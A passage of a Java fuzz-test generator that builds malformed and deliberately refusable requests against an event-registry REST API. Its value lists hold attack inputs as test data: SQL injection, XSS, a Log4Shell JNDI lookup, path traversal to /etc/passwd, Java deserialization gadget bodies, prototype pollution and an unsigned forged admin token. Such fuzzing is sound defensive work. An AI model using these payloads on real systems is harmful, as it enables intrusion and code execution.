package org.eventregistry.generated;

import com.fasterxml.jackson.core.JsonProcessingException;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.BigIntegerNode;
import com.fasterxml.jackson.databind.node.BooleanNode;
import com.fasterxml.jackson.databind.node.ContainerNode;
import com.fasterxml.jackson.databind.node.DecimalNode;
import com.fasterxml.jackson.databind.node.DoubleNode;
import com.fasterxml.jackson.databind.node.IntNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.LongNode;
import com.fasterxml.jackson.databind.node.NullNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import com.fasterxml.jackson.databind.node.TextNode;

import java.io.ByteArrayOutputStream;
import java.math.BigDecimal;
import java.math.BigInteger;
import java.nio.charset.StandardCharsets;
import java.util.AbstractMap;
import java.util.ArrayList;
import java.util.Collection;
import java.util.Iterator;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.function.Supplier;

/**
 * Makes requests for an operation of the OpenAPI document from one seeded {@link Random}: a path with real or junk
 * parameters, a query string of known parameters with odd values (and unknown, repeated and malformed ones), headers
 * (Accept, Content-Type, If-Match, If-None-Match, Idempotency-Key, Authorization) and a body built from the request
 * schema and then mutated, as a JSON tree (wrong types, nulls, missing and unknown fields, long strings, deep arrays)
 * or as bytes (duplicate keys, invalid UTF-8, trailing data, not JSON at all).
 */
public final class RequestGenerator {

    private static final JsonNodeFactory NODES = JsonNodeFactory.instance;
    private static final ObjectMapper JSON = new ObjectMapper();

    // ---- value pools -------------------------------------------------------------------------------------------

    static final List<String> ODD_STRINGS = List.of(
            "", " ", "  ", "null", "undefined", "0", "-1", "true", "[]", "{}", "é", "Čolić Đorđević", "ß", "ﬁ", "İ",
            "\uD835\uDD18\uD835\uDD2B\uD835\uDD26", "😀👍🏽", "\u202Eevil\u202C", "a\u0000b", "line\nbreak", "tab\there",
            "\r\n", "%", "%25", "%00", "'", "\"", "\\", "\\u0000", "' OR '1'='1", "1; DROP TABLE event; --",
            "<script>alert(1)</script>", "<p onclick=x>p</p>", "${jndi:ldap://example.org/a}", "#{7*7}", "{{7*7}}",
            "../../etc/passwd", "*", "_", "%_%", "\uFEFFbom", "\u00A0", "ｆｕｌｌｗｉｄｔｈ", "\u0085", "\u2028", "\u001B[31m",
            "a,b", "a;b", "a&b=c", "+", "++", "- -", "NaN", "Infinity", "1e309", "0x1F", "٣", "１２", "Ω≈ç√∫");

    static final List<String> DATE_TIMES = List.of(
            "2031-02-30T10:00:00Z", "2031-13-01T00:00:00Z", "+999999999-12-31T23:59:59Z", "-999999999-01-01T00:00:00Z",
            "+10000-01-01T00:00:00Z", "0000-01-01T00:00:00Z", "2031-05-10", "2031-05-10T10:00:00", "2031-05-10T10:00:00+18:00",
            "2031-05-10T10:00:00+19:00", "2031-05-10T24:00:00Z", "2031-05-10T10:00:60Z", "2031-05-10T10:00:00.1234567891Z",
            "now", "today", "", "1970-01-01T00:00:00Z", "2031-05-10 10:00:00Z", "2031-W19-5", "2031-05-10T10:00:00z",
            "9999-12-31T23:59:59.999999999Z", "2031-05-10T10:00:00-00:00", "2031-05-10T10:00Z", "1e9");

    static final List<String> DATES = List.of(
            "now", "today", "2030-01-01", "2030-02-30", "2030-13-01", "2030", "2030-05", "+999999999-12-31", "-999999999-01-01",
            "2030-01-01T00:00:00Z", "2030-01-01T00:00:00+25:00", "2030-01-01T24:00:00Z", "1970-01-01T00:00:00Z",
            "9999-12-31T23:59:59.999999999Z", "1e9", "", "tomorrow", "0000-00-00", "10000-01-01", "2030-01-01T00:00:00",
            "-1", "2030-1-1", "NOW", " now", "2030-01-01T00:00:00.000000000001Z", "+2030-01-01", "20300101");

    static final List<String> TIME_ZONES = List.of(
            "Mars/Olympus", "", "UTC", "Z", "GMT+14", "Etc/GMT-14", "Etc/GMT+15", "+02:00", "+25:00", "SystemV/AST4", "EST",
            "europe/belgrade", "Europe/Belgrade ", "../../../etc/passwd", "America/Argentina/ComodRivadavia", "Europe/Kiev",
            "UTC+01:00", "GMT0", "Etc/Unknown", "Europe/Belgrade\u0000", "X".repeat(300));

    static final List<String> LANGUAGES = List.of(
            "", "x-klingon", "i-klingon", "en_US", "sr-Latn-RS-u-co-phonebk", "zh-Hant-TW-x-private", "toolongsubtag",
            "123", "en-", "-en", "qaa", "und", "EN", "sr-Latn", "en-GB-oed", "a".repeat(100), "en--US", "*");

    static final List<String> COUNTRIES = List.of("", "XX", "rs", "RSS", "R", "ÄÖ", "00", "ZZ", "EU", "UK", "R S", "RS ");

    static final List<String> URLS = List.of(
            "", "javascript:alert(1)", "data:text/html,x", "http://", "https://", "https://[::1", "https://exa mple.org",
            "ftp://example.org", "//example.org", "example.org", "https://example.org/" + "a".repeat(3000),
            "https://ex%ample.org", "https://user:pass@example.org", "https://exämple.org/ä", "HTTPS://EXAMPLE.ORG",
            "https://example.org:99999/", "https://example.org:-1/", "http://[fe80::1%25eth0]/", "file:///etc/passwd",
            "https://example.org/\u0000", "mailto:a@example.org", "https:example.org", "https://a..b/");

    static final List<String> ORCIDS = List.of(
            "", "0000-0002-1825-009X", "0000-0002-1825-0096", "https://orcid.org/0000-0002-1825-0097",
            "http://orcid.org/0000-0002-1825-0097", "0000000218250097", "0000-0002-1825-00977", "xxxx-xxxx-xxxx-xxxx",
            "0000-0002-1825-009x", "https://orcid.org/", "٠٠٠٠-٠٠٠٢-١٨٢٥-٠٠٩٧", "0000-0002-1825-0097 ");

    static final List<String> ISBNS = List.of(
            "", "0-306-40615-2", "0-306-40615-3", "978-0-306-40615-7", "978-0-306-40615-6", "X", "123456789X",
            "12345678X9", "979-10-90636-07-1", "٩٧٨٠٣٠٦٤٠٦١٥٧", "97803064061571234567", "978-0-306-40615-X", "0000000000");

    static final List<String> DOIS = List.of(
            "", "10.", "10.1000/", "https://doi.org/10.1000/XYZ", "doi:10.1000/x", "11.1000/x", "10.1000/" + "x".repeat(300),
            "10.1000/ä", "https://dx.doi.org/", "10.1000/a b", "10/abc");

    static final List<String> PUBLISHED_ON = List.of(
            "", "2015", "2015-13", "2015-00", "2015-02-30", "2015-1-5", "-2015", "0000", "99999", "2015-10-05T00:00:00Z",
            "2015/10/05", "1e3", "+2015", "٢٠١٥", "2015-10-", "2015-02-29", "2016-02-29", "-999999999", "2015-10-05 ");

    static final List<String> EMAILS = List.of(
            "", "a", "@", "a@", "a@b", "a@@b.c", "a b@c.d", "x".repeat(250) + "@example.org", "ü@ü.de", "a@b..c", "\"a\"@b.c");

    static final List<String> PHONES = List.of(
            "", "+", "1", "++381", "+381 11 123 4567 ext. 5", "abc", "0".repeat(41), "+381\u000011", "(((((", "٠١٢٣٤٥");

    static final List<String> SLUGS = List.of(
            "", "A", "a--b", "-a", "a-", "a_b", "é", "a".repeat(121), "q", "0", "new", "a/b", "a b", "..", "%2F");

    static final List<String> LIMITS = List.of(
            "1", "20", "100", "0", "-1", "101", "2147483647", "2147483648", "-2147483649", "99999999999999999999", "abc", "",
            "1.5", " 5", "5 ", "0x10", "+5", "1e2", "٣", "１", "00000000000000000000000000000000000000005", "NaN");

    static final List<String> SORTS = List.of(
            "startsAt", "-startsAt", "endsAt", "title", "-title", "createdAt", "-updatedAt", "familyName", "-familyName",
            "displayName", "publishedOn", "-publishedOn", "--title", "+title", "title,-startsAt", "title,title", "", "-",
            "unknown", "id", "TITLE", "startsAt,", ",", "title desc", "-".repeat(50));

    static final List<String> INCLUDES = List.of("speakers", "publications", "speakers,publications", "SPEAKERS", "",
            ",", "speakers,speakers", "everything", "speakers, publications");

    static final List<String> BOOLEANS = List.of("true", "false", "TRUE", "1", "0", "yes", "", "t", "null");

    static final List<String> CITATION_FORMATS = List.of("bibtex", "ris", "csl-json", "BIBTEX", "bibtex ", "json", "", "endnote");

    static final List<String> CHANGE_CURSORS = List.of("now", "", "0", "-1", "99999999999999999999", "p:1", "now ", "NOW",
            "start", "cDo0Mg", "cDo0Mg.", ".Zk9xY2hWbE1tN1p3", "cDo0Mg.Zk9xY2hWbE1tN1p3", "cDotMQ.AAAA", "====", "a.b.c",
            "eyJzIjoieCIsImYiOiJ5IiwidiI6bnVsbH0.AAAA", "Y3Vyc29y.c2ln", "%00", "x".repeat(3000));

    static final List<String> JUNK_SEGMENTS = List.of(
            "no-such-record", "01JXD8ZK3Q4M9V6T2B7C5N1P0R", "0", "-1", "99999999999999999999", "%2F", "%2e%2e", "..", ".",
            "a".repeat(300), "%C4%8Coli%C4%87", "%00", "%ZZ", "%FF", "%E2%82", "null", "%20", "'", "*", "%27%20OR%201%3D1",
            "UPPER-CASE", "%F0%9F%98%80", "x;y=z", "a%2Fb", "%25", "~", "a".repeat(5000));

    static final List<String> MALFORMED_QUERY = List.of(
            "%", "%Z", "%ZZ", "%E2%82", "%FF", "%C0%AF", "%00", "%2", "a%", "%%", "%u0041", "%ED%A0%80", "%F4%90%80%80",
            "%0A", "%0D%0A", "%7F", "%C3");

    static final List<String> UNKNOWN_PARAMS = List.of(
            "foo", "LIMIT", "limit[]", "Limit", "utm_source", "callback", "_", "a b", "fields", "expand", "dryRun",
            "page", "offset", "sort[]", "q ", "%ZZ", "", "é");

    static final List<String> ACCEPTS = List.of(
            "application/json", "*/*", "application/problem+json", "application/ld+json", "text/calendar",
            "application/atom+xml", "application/rss+xml", "application/feed+json", "application/x-bibtex",
            "application/x-research-info-systems", "application/vnd.citationstyles.csl+json", "text/html", "application/xml",
            "text/plain", "image/png", "foo", "", "application/json;q=0", "*/*;q=abc", "application/json, */*;q=0.1",
            "text/*", "application/*", "*/json", "application/json;charset=ebcdic", "a/b;c=d;e", "x".repeat(5000),
            "application/json;q=1.5", "application/json;q=-1", ";;;", "*", "application/json, text/html;q=0.9, */*;q=0.8",
            String.join(",", java.util.Collections.nCopies(200, "text/html;q=0.1")), "application/merge-patch+json",
            "application/json;v=2", "text/calendar;charset=utf-8", "APPLICATION/JSON", "application/json\u00e9");

    static final List<String> CONTENT_TYPES = List.of(
            "application/json", "application/json; charset=utf-8", "application/json; charset=UTF-16",
            "application/json; charset=nonsense", "application/json;charset=", "application/json; charset=\"utf-8\"",
            "application/merge-patch+json", "application/merge-patch+json; charset=utf-8", "application/json-patch+json",
            "text/plain", "text/json", "application/x-www-form-urlencoded", "multipart/form-data",
            "multipart/form-data; boundary=x", "application/xml", "application/octet-stream", "*/*", "application/*",
            "json", "", ";;;", "application/problem+json", "APPLICATION/JSON", "application/json; charset=utf-8; charset=latin1",
            "application/json;q=0.5", "application/vnd.api+json", "text/html", "application/json, text/plain",
            "x".repeat(3000), "application/ld+json", "application/json; charset=ISO-8859-1");

    static final List<String> ENTITY_TAGS = List.of(
            "*", "\"junk\"", "W/\"x\"", "junk", "", "\"\"", "\"a\", \"b\"", "W/*", "\"" + "x".repeat(5000) + "\"",
            "\"01JXD8ZK3Q4M9V6T2B7C5N1P0R-0\"", "\"-1\"", "\"x-99999999999999999999\"", "*, \"a\"", "\"é\"", ",,,", "W/");

    static final List<String> DATES_HTTP = List.of(
            "Thu, 01 Jan 1970 00:00:00 GMT", "junk", "", "Sat, 31 Dec 9999 23:59:59 GMT", "-1", "Mon, 32 Jan 2024 00:00:00 GMT",
            "Sunday, 06-Nov-94 08:49:37 GMT", "Sun Nov  6 08:49:37 1994", "2024-01-01T00:00:00Z", "99999999999999999999");

    static final List<String> IDEMPOTENCY_KEYS = List.of(
            "k-1", "k-2", "k-3", "", " ", "\t", "x".repeat(300), "x".repeat(10_000), "é-ключ", "a,b", "\"quoted\"",
            "00000000-0000-0000-0000-000000000000", "null");

    static final List<String> RAW_JSON_VALUES = List.of(
            "NaN", "Infinity", "-Infinity", "1e999999", "0x10", "01", ".5", "-", "+1",
            "123456789012345678901234567890123456789012345678", "\"\\ud800\"", "\"\\udc00\\ud800\"", "\"\\u0000\"",
            "\"a\\u0007b\"", "\"a\u0001b\"", "true", "null", "undefined", "'single'", "\"unterminated", "[1,2,,3]",
            "{\"a\" 1}", "\"\\x41\"", "\"\\uZZZZ\"", "1.7976931348623157e309", "-0", "1E400", "0.0000000000000000000000000000000000000000001");

    static final List<byte[]> JUNK_BODIES = List.of(
            bytes("not json"), bytes("{"), bytes("}"), bytes("["), bytes("nul"), bytes("{\"a\":}"), bytes("<xml/>"),
            bytes("'single'"), bytes("{\"title\": \"x\",}"), bytes("42"), bytes("\"string\""), bytes("true"), bytes("null"),
            bytes("[]"), bytes("{}"), bytes("[{}]"), bytes("[null]"), bytes("{\"\":1}"), bytes("\u0000"), bytes(" "),
            bytes("\n\n"), bytes("{}{}"), bytes("{} x"), bytes("title=x&type=LECTURE"),
            new byte[]{'{', '"', 't', 'i', 't', 'l', 'e', '"', ':', '"', (byte) 0xC3, (byte) 0x28, '"', '}'},
            new byte[]{'{', '"', 't', 'i', 't', 'l', 'e', '"', ':', '"', (byte) 0xFF, (byte) 0xFE, '"', '}'},
            new byte[]{'{', '"', 't', 'i', 't', 'l', 'e', '"', ':', '"', (byte) 0xC0, (byte) 0xAF, '"', '}'},
            new byte[]{'{', '"', 't', 'i', 't', 'l', 'e', '"', ':', '"', (byte) 0xED, (byte) 0xA0, (byte) 0x80, '"', '}'},
            new byte[]{(byte) 0xFF, (byte) 0xFE, '{', 0, '}', 0},
            new byte[]{(byte) 0xEF, (byte) 0xBB, (byte) 0xBF, '{', '}'},
            new byte[]{(byte) 0x80, (byte) 0x81, (byte) 0x82},
            bytes("[".repeat(100_000)), bytes("{\"a\":".repeat(20_000)), bytes("\"" + "a".repeat(300_000)),
            bytes("--x\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\nb\r\n--x--\r\n"),
            bytes("{\"title\":\"a\",\"title\":\"b\"}"), bytes("{\"a\":1}//comment"), bytes("/*c*/{}"),
            bytes("{\"__proto__\":{\"admin\":true}}"), bytes("{\"@type\":\"java.lang.Runtime\"}"),
            bytes("[\"com.sun.rowset.JdbcRowSetImpl\",{\"dataSourceName\":\"ldap://x\"}]"));

    // ---- state -------------------------------------------------------------------------------------------------

    private final Random random;
    private final Targets targets;
    private final List<String> enumValues;
    private long serial;

    public RequestGenerator(long seed, Targets targets, Collection<String> enumValues) {
        this.random = new Random(seed);
        this.targets = targets;
        this.enumValues = List.copyOf(enumValues);
    }

    // ---- any request ---------------------------------------------------------------------------------------------

    /**
     * A request of any kind for the operation: valid or not, with or without a token. Half of those for operations
     * that take a body are {@link #deep deep}: everything around the body is right, so the body reaches the service.
     */
    public RawRequest any(ApiOperation op) {
        if (op.takesBody() && chance(0.5)) {
            return deep(op);
        }
        String path = path(op, chance(0.2));
        List<String> query = query(op);
        List<Map.Entry<String, String>> headers = new ArrayList<>();
        authorization(headers);
        if (chance(0.35)) {
            headers.add(header("Accept", chance(0.4) ? pick(List.of("application/json", "*/*", "application/problem+json")) : pick(ACCEPTS)));
        }
        if (op.declaresHeader("If-Match") ? chance(0.35) : chance(0.03)) {
            headers.add(header("If-Match", entityTag()));
        }
        if (op.method().equals("GET") ? chance(0.15) : chance(0.03)) {
            headers.add(header("If-None-Match", entityTag()));
        }
        if (op.method().equals("GET") && chance(0.06)) {
            headers.add(header("If-Modified-Since", pick(DATES_HTTP)));
        }
        if (chance(0.04)) {
            headers.add(header("If-Unmodified-Since", pick(DATES_HTTP)));
        }
        if (chance(0.02)) {
            headers.add(header("If-Range", pick(List.of("junk", "\"x\"", "Thu, 01 Jan 1970 00:00:00 GMT", ""))));
        }
        if (op.declaresHeader("Idempotency-Key") ? chance(0.4) : chance(0.03)) {
            headers.add(header("Idempotency-Key", chance(0.3) ? "gen-" + (++serial) : pick(IDEMPOTENCY_KEYS)));
        }
        miscellaneousHeaders(headers);
        byte[] body;
        if (op.takesBody()) {
            body = body(op);
        } else {
            body = chance(0.04) ? pick(JUNK_BODIES) : null;
        }
        if (chance(0.08)) {
            // a Content-Type that is no media type at all, with or without a body
            headers.add(header("Content-Type", pick(List.of("json", "", ";;;", "/", "a/b/c", "text/", "/json", "application/json;charset",
                    "application/json; =x", "*", "application"))));
        } else if (body != null ? !chance(0.1) : chance(0.04)) {
            String media = op.bodyMediaType() == null ? "application/json" : op.bodyMediaType();
            headers.add(header("Content-Type", chance(0.75) ? media : pick(CONTENT_TYPES)));
        }
        return new RawRequest(op.name(), op.method(), path, query, headers, body);
    }

    /** A staff or admin request to a real record with the right Content-Type, whose body is the schema's, mutated. */
    public RawRequest deep(ApiOperation op) {
        List<Map.Entry<String, String>> headers = new ArrayList<>();
        headers.add(header("Authorization", "Bearer " + (chance(0.8) ? targets.adminToken : targets.staffToken)));
        if (chance(0.5)) {
            headers.add(header("Accept", "application/json"));
        }
        headers.add(header("Content-Type", op.bodyMediaType()));
        if (op.declaresHeader("Idempotency-Key") && chance(0.3)) {
            headers.add(header("Idempotency-Key", "deep-" + (++serial)));
        }
        JsonNode tree = valid(op);
        int mutations = chance(0.2) ? 0 : 1 + random.nextInt(3);
        for (int i = 0; i < mutations; i++) {
            tree = mutate(tree, op);
        }
        byte[] body = chance(0.1) ? textMutation(tree) : write(tree);
        return new RawRequest(op.name(), op.method(), path(op, false), List.of(), headers, body);
    }

    // ---- requests meant to be refused ----------------------------------------------------------------------------

    /** A write request that must be refused, and why (the one thing wrong with it). */
    public record Refusal(String reason, RawRequest request) {
    }

    /** A request for a write operation with exactly one reason to be refused; otherwise it is valid and as admin. */
    public Refusal refused(ApiOperation op) {
        List<String> reasons = new ArrayList<>(List.of("no token", "partner token", "junk token", "unknown query parameter"));
        if (op.takesBody()) {
            reasons.addAll(List.of("broken body", "body of the wrong type", "over-long field", "unknown field",
                    "wrong Content-Type", "body over 1 MiB"));
            if (op.method().equals("POST") || op.method().equals("PUT")) {
                reasons.add("missing required field");
            }
        }
        if (op.declaresHeader("If-Match")) {
            reasons.add("stale If-Match");
        }
        if (!op.pathParameters().isEmpty()) {
            reasons.add("no such record");
        }
        if (op.declaresHeader("Idempotency-Key") && targets.usedIdempotencyKeys.containsKey(op.template())) {
            reasons.add("reused Idempotency-Key");
        }
        if (op.takesBody() && semantic(op, null) != null) {
            reasons.add("business rule");
        }
        String reason = pick(reasons);

        String path = path(op, false, JUNK_SEGMENTS, false);
        List<String> query = new ArrayList<>();
        List<Map.Entry<String, String>> headers = new ArrayList<>();
        JsonNode tree = op.takesBody() ? valid(op) : null;
        byte[] body = tree == null ? null : write(tree);
        String contentType = op.bodyMediaType();
        String token = targets.adminToken;
        switch (reason) {
            case "no token" -> token = null;
            case "partner token" -> token = targets.partnerToken;
            case "junk token" -> token = pickNoted(List.of("junk", "reg_" + "x".repeat(40), targets.adminToken + "x", "a.b.c",
                    "eyJhbGciOiJub25lIn0.eyJzdWIiOiJ4Iiwicm9sZXMiOlsicmVnaXN0cnktYWRtaW4iXX0."));
            case "unknown query parameter" -> query.add(pickNoted(List.of("dryRun=true", "foo=bar", "fields=title", "limit=1")));
            case "broken body" -> body = bytes(pickNoted(List.of("not json", "{", "}", "[", "nul", "{\"a\":}", "<xml/>", "'single'",
                    "{\"title\": \"x\",}", "{}{}", "{} x", "title=x&type=LECTURE")));
            case "body of the wrong type" -> body = bytes(pickNoted(tree.isArray() ? List.of("{\"speaker\":\"x\"}", "\"x\"", "1")
                    : List.of("[]", "\"x\"", "1", "[{}]")));
            case "over-long field" -> body = write(overLong(op, tree));
            case "unknown field" -> {
                ((ObjectNode) container(tree)).put(pickNoted(List.of("unknownField", "Title", "empty", "__proto__", "startsat")), "x");
                body = write(tree);
            }
            case "wrong Content-Type" -> contentType = pickNoted(List.of("text/plain", "application/xml", "application/x-www-form-urlencoded",
                    "application/octet-stream", "multipart/form-data; boundary=x"));
            case "body over 1 MiB" -> {
                ((ObjectNode) container(tree)).put(firstStringField(op), "a".repeat(1_100_000));
                body = write(tree);
            }
            case "missing required field" -> {
                ObjectNode object = (ObjectNode) container(tree);
                List<String> required = new ArrayList<>();
                schemaOf(op).path("required").forEach(r -> required.add(r.asText()));
                if (required.isEmpty()) {
                    object.removeAll();
                    object.put("unknownField", 1);
                } else {
                    object.remove(pickNoted(required));
                }
                body = write(tree);
            }
            case "stale If-Match" -> headers.add(header("If-Match", pickNoted(List.of("\"junk\"", "\"\"",
                    "\"" + targets.eventId + "-999999\"", "\"" + targets.speakerId + "-999999\"", "\"" + targets.publicationId + "-999999\"",
                    "\"01JXD8ZK3Q4M9V6T2B7C5N1P0R-0\"", "W/\"x\"", "junk"))));
            case "no such record" -> path = path(op, true, List.of("no-such-record-" + (++serial), "01JXD8ZK3Q4M9V6T2B7C5N1P0R"), false);
            case "reused Idempotency-Key" -> headers.add(header("Idempotency-Key", targets.usedIdempotencyKeys.get(op.template())));
            case "business rule" -> body = write(semantic(op, tree));
            default -> throw new IllegalStateException(reason);
        }
        if (token != null) {
            headers.add(header("Authorization", "Bearer " + token));
        }
        if (body != null) {
            headers.add(header("Content-Type", contentType));
        }
        String detail = noted == null ? "" : ": " + (noted.length() > 60 ? noted.substring(0, 60) + "…" : noted);
        noted = null;
        return new Refusal(reason + detail, new RawRequest(op.name(), op.method(), path, query, headers, body));
    }

    private String noted;

    /** A pick that the refusal's reason names, so a summary says which variant was sent. */
    private String pickNoted(List<String> values) {
        noted = pick(values);
        return noted;
    }

    /** The body with a change only a business rule refuses (endsAt before startsAt, a slug taken, a speaker twice). */
    private JsonNode semantic(ApiOperation op, JsonNode tree) {
        String t = op.template();
        if (t.equals("/api/v1/events") || t.equals("/api/v1/events/{ref}")) {
            if (tree == null) {
                return NODES.nullNode();
            }
            ObjectNode event = (ObjectNode) tree;
            if (chance(0.5)) {
                noted = "endsAt before startsAt";
                event.put("startsAt", "2031-05-10T12:00:00+02:00");
                event.put("endsAt", "2031-05-10T10:00:00+02:00");
            } else {
                noted = "the slug of another event";
                event.put("slug", targets.draftEventSlug);
            }
            return event;
        }
        if (t.equals("/api/v1/events/{ref}/speakers") && op.method().equals("PUT")) {
            if (tree == null) {
                return NODES.nullNode();
            }
            ArrayNode lineup = NODES.arrayNode();
            lineup.add(lineupPlace(targets.speakerId));
            lineup.add(lineupPlace(targets.speakerSlug));
            return lineup;
        }
        if (t.equals("/api/v1/events/{ref}/speakers/{id}") && op.method().equals("PATCH")) {
            return tree == null ? NODES.nullNode() : NODES.objectNode().put("role", "CHAIR").put("order", 10_001);
        }
        if (t.equals("/api/v1/events/{ref}/speakers") && op.method().equals("POST")) {
            // the fixture speaker already holds a place in the fixture event's line-up
            return tree == null ? NODES.nullNode() : lineupPlace(targets.speakerSlug);
        }
        if (t.startsWith("/api/v1/speakers") && !op.method().equals("DELETE")) {
            if (tree == null) {
                return NODES.nullNode();
            }
            ObjectNode links = NODES.objectNode();
            links.put("orcid", "0000-0002-1825-0096");
            ((ObjectNode) tree).set("links", links);
            return tree;
        }
        if (t.startsWith("/api/v1/publications") && !op.method().equals("DELETE")) {
            if (tree == null) {
                return NODES.nullNode();
            }
            ((ObjectNode) tree).put("isbn", "978-0-306-40615-6");
            return tree;
        }
        if (t.equals("/api/v1/admin/tokens") && op.method().equals("POST")) {
            if (tree == null) {
                return NODES.nullNode();
            }
            ((ObjectNode) tree).put("name", "   ");
            return tree;
        }
        return null;
    }

    private ObjectNode lineupPlace(String speaker) {
        ObjectNode place = NODES.objectNode();
        place.put("speaker", speaker);
        place.put("role", "MODERATOR"); // the role the target speaker already has there
        return place;
    }

    private JsonNode overLong(ApiOperation op, JsonNode tree) {
        JsonNode schema = schemaOf(op);
        List<String> bounded = new ArrayList<>();
        schema.path("properties").fields().forEachRemaining(f -> {
            if (f.getValue().has("maxLength") && f.getValue().path("maxLength").asInt() < 200_000 && !f.getKey().equals("slug")) {
                bounded.add(f.getKey());
            }
        });
        ObjectNode object = (ObjectNode) container(tree);
        if (bounded.isEmpty()) {
            object.put("unknownField", "x");
            return tree;
        }
        String field = pick(bounded);
        object.put(field, "a".repeat(schema.path("properties").path(field).path("maxLength").asInt() + 1));
        return tree;
    }

    private static JsonNode container(JsonNode tree) {
        return tree.isArray() ? (tree.isEmpty() ? ((ArrayNode) tree).addObject() : tree.get(0)) : tree;
    }

    private JsonNode schemaOf(ApiOperation op) {
        JsonNode schema = op.bodySchema();
        return schema.path("type").asText().equals("array") ? schema.path("items") : schema;
    }

    private String firstStringField(ApiOperation op) {
        Iterator<Map.Entry<String, JsonNode>> fields = schemaOf(op).path("properties").fields();
        while (fields.hasNext()) {
            Map.Entry<String, JsonNode> field = fields.next();
            if (field.getValue().path("type").asText().equals("string") && !field.getValue().has("enum")) {
                return field.getKey();
            }
        }
        return "unknownField";
    }

    // ---- path ----------------------------------------------------------------------------------------------------

    private String path(ApiOperation op, boolean junk) {
        return path(op, junk, JUNK_SEGMENTS, true);
    }

    private String path(ApiOperation op, boolean junk, List<String> junkValues, boolean draftToo) {
        String path = op.template();
        List<String> names = op.pathParameters();
        String junkName = names.isEmpty() ? null : pick(names);
        for (String name : names) {
            String value = junk && name.equals(junkName) ? pick(junkValues) : realValue(op.template(), name, draftToo);
            path = path.replace("{" + name + "}", value);
        }
        return path;
    }

    private String realValue(String template, String name, boolean draftToo) {
        if (template.startsWith("/api/v1/admin/tokens")) {
            return targets.tokenId;
        }
        if (template.startsWith("/api/v1/events/{ref}/speakers/") && name.equals("id")) {
            return targets.lineupEntryId;
        }
        if (template.startsWith("/api/v1/events")) {
            return draftToo && chance(0.15) ? targets.draftEventId : pick(List.of(targets.eventId, targets.eventSlug));
        }
        if (template.startsWith("/api/v1/speakers")) {
            return pick(targets.speakerRefs());
        }
        if (template.startsWith("/api/v1/publications")) {
            return pick(targets.publicationRefs());
        }
        return "unknown";
    }

    // ---- query ---------------------------------------------------------------------------------------------------

    private List<String> query(ApiOperation op) {
        List<String> pairs = new ArrayList<>();
        int count;
        if (op.query().isEmpty()) {
            count = chance(0.85) ? 0 : 1;
        } else {
            double r = random.nextDouble();
            count = r < 0.2 ? 0 : r < 0.5 ? 1 : r < 0.7 ? 2 : 3 + random.nextInt(3);
        }
        for (int i = 0; i < count; i++) {
            if (!op.query().isEmpty() && chance(0.88)) {
                ApiOperation.QueryParameter parameter = pick(op.query());
                pairs.add(encode(parameter.name()) + "=" + encodeValue(queryValue(parameter)));
                if (chance(0.1)) {
                    pairs.add(encode(parameter.name()) + "=" + encodeValue(queryValue(parameter)));
                }
            } else {
                pairs.add(encode(pick(UNKNOWN_PARAMS)) + "=" + encodeValue(pick(ODD_STRINGS)));
            }
        }
        if (chance(0.04)) {
            String name = op.query().isEmpty() ? pick(UNKNOWN_PARAMS) : pick(op.query()).name();
            pairs.add(chance(0.8) ? encode(name) + "=" + pick(MALFORMED_QUERY) : pick(MALFORMED_QUERY) + "=1");
        }
        if (chance(0.03)) {
            pairs.add(pick(List.of("", "=", "==", "a=b=c", ";", "&", "=1", "x")));
        }
        if (chance(0.015)) {
            String name = op.query().isEmpty() ? "q" : pick(op.query()).name();
            pairs.add(name + "=" + "a".repeat(chance(0.5) ? 4090 : 20_000));
        }
        return pairs;
    }

    private String queryValue(ApiOperation.QueryParameter parameter) {
        double r = random.nextDouble();
        if (r < 0.25) {
            return pick(ODD_STRINGS);
        }
        if (r < 0.28) {
            return "x".repeat(pick(List.of(300, 2000, 4000)));
        }
        if (r < 0.33 && !enumValues.isEmpty()) {
            return pick(enumValues);
        }
        String name = parameter.name();
        return switch (name) {
            case "limit" -> pick(LIMITS);
            case "cursor" -> chance(0.5) && !targets.cursors.isEmpty() ? mutateCursor(pick(targets.cursors)) : pick(CHANGE_CURSORS);
            case "after" -> chance(0.4) && !targets.cursors.isEmpty() ? mutateCursor(pick(targets.cursors)) : pick(CHANGE_CURSORS);
            case "from", "to", "updatedSince", "publishedFrom", "publishedTo" -> pick(DATES);
            case "sort" -> pick(SORTS);
            case "include" -> pick(INCLUDES);
            case "country" -> chance(0.5) ? "RS" : pick(COUNTRIES);
            case "language" -> chance(0.5) ? "en" : pick(LANGUAGES);
            case "unlink" -> pick(BOOLEANS);
            case "parent", "event" -> pick(List.of(targets.eventId, targets.eventSlug, targets.draftEventId, pick(JUNK_SEGMENTS)));
            case "speaker", "author" -> pick(List.of(targets.speakerId, targets.speakerSlug, pick(JUNK_SEGMENTS)));
            case "recordId" -> pick(List.of(targets.eventId, targets.speakerId, "", pick(JUNK_SEGMENTS)));
            case "format" -> pick(parameter.schema().path("type").asText().equals("array")
                    ? List.of("IN_PERSON", "ONLINE", "HYBRID", "in_person", "", "x") : CITATION_FORMATS);
            case "type", "status", "publicationStatus", "role", "operation", "kind" ->
                    chance(0.6) && !enumValues.isEmpty() ? pick(enumValues) : pick(List.of("", "lecture", "event", "DRAFT", "x", "PUBLISHED,DRAFT"));
            default -> chance(0.5) ? "horizons" : pick(ODD_STRINGS);
        };
    }

    private String mutateCursor(String cursor) {
        if (cursor == null || cursor.isEmpty()) {
            return "x";
        }
        return switch (random.nextInt(7)) {
            case 0 -> cursor;
            case 1 -> cursor.substring(0, random.nextInt(cursor.length()));
            case 2 -> cursor + pick(List.of("x", "A", ".", "="));
            case 3 -> {
                char[] chars = cursor.toCharArray();
                int at = random.nextInt(chars.length);
                chars[at] = chars[at] == 'A' ? 'B' : 'A';
                yield new String(chars);
            }
            case 4 -> cursor.replace('.', '!');
            case 5 -> cursor.contains(".") ? cursor.substring(0, cursor.indexOf('.')) + "." : cursor;
            default -> cursor.contains(".") ? cursor.substring(cursor.indexOf('.')) : cursor;
        };
    }

    static String encode(String text) {
        StringBuilder out = new StringBuilder();
        for (byte b : text.getBytes(StandardCharsets.UTF_8)) {
            int c = b & 0xff;
